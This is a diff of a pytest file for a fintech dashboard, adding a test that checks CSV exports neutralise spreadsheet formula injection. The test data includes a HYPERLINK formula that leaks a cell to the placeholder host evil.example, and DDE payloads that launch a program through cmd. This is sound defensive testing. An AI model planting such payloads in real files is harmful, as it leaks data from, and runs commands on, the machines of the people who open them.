@@ -18,8 +18,7 @@ def dashboard_env(dashboard_data, monkeypatch):
     data_dir, url, accounts = dashboard_data
     monkeypatch.setenv("FINTECH_BACKEND", url)
     monkeypatch.setenv("FINTECH_DATA_DIR", str(data_dir))
-    for cached in (data.query, data.deciles, data.lorenz, data.dimension_values, data.metric_sql):
-        cached.cache_clear()
+    data.clear_caches()
     return accounts
 
 
@@ -133,3 +132,37 @@ def test_a_filter_change_updates_every_chart_and_section_of_the_app(dashboard_en
     cards = " ".join(p.object for p in every(pn.pane.HTML, template.main) if "kpi-card" in str(p.object))
     assert f"${west.balance.sum():,.0f}" in cards
     assert not any(s.value for s in every(pn.indicators.LoadingSpinner, template.header))
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
+            "-2+3+cmd|' /C calc'!A0"]
+
+
+def test_csv_exports_open_safely_in_a_spreadsheet(generate_csv, tmp_path, monkeypatch):
+    """Text that a spreadsheet would run as a formula arrives as text; numbers stay numbers."""
+    import csv
+    import io
+
+    from dashboard.components.common import csv_download
+    from tests.conftest import build_warehouse, warehouse_url
+
+    source = generate_csv(1_003, 11)
+    rows = list(csv.reader(source.open(newline="")))
+    description = rows[0].index("Transaction Description")
+    for i, formula in enumerate(FORMULAS, start=1):
+        rows[i][description] = formula
+    hostile = tmp_path / "hostile.csv"
+    with hostile.open("w", newline="") as f:
+        csv.writer(f).writerows(rows)
+    target = build_warehouse(hostile, tmp_path / "warehouse" / "fintech.duckdb")
+    monkeypatch.setenv("FINTECH_BACKEND", warehouse_url(target))
+    data.clear_caches()
+
+    exported = csv_download(lambda: data.accounts(), "accounts.csv", "CSV").callback().getvalue()
+    table = list(csv.DictReader(io.StringIO(exported)))
+    descriptions = {row["transaction_description"] for row in table}
+    assert {"'" + formula for formula in FORMULAS} <= descriptions
+    assert not any(value.startswith(("=", "+", "@")) for row in table for value in row.values())
+    negative = [row["net_flow"] for row in table if row["net_flow"].startswith("-")]
+    assert negative and all(float(value) < 0 for value in negative)  # a negative number is not a formula
+    data.clear_caches()
